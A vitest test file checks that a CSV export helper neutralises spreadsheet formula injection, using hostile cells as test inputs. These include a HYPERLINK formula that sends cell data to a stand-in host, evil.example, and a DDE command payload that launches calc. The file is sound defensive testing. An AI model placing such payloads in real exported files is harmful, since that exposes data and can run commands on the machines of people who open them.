import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { toSpreadsheetSafeCsv } from "./csv";

const cellOf = (csv: string) => Papa.parse<string[]>(csv).data[1]?.[0];

describe("toSpreadsheetSafeCsv", () => {
  it.each([
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=HYPERLINK("https://evil.example")\nx',
    "+1+cmd|' /C calc'!A0\r\nmore",
    "-2+3\nsecond line",
    "@SUM(A1)\n",
    "\t=1\n",
    "\r=1",
  ])("neutralises a formula-looking cell, also across lines: %j", (value) => {
    const cell = cellOf(toSpreadsheetSafeCsv([{ value }]));
    // A spreadsheet treats a cell starting with ' as text; the rest of the value is kept as it was.
    expect(cell).toBe(`'${value}`);
  });

  it("leaves ordinary values alone, including multi-line ones", () => {
    const csv = toSpreadsheetSafeCsv([{ a: "site.create", b: "line one\n=not at the start", c: 5 }]);
    expect(Papa.parse<string[]>(csv).data[1]).toEqual(["site.create", "line one\n=not at the start", "5"]);
  });
});
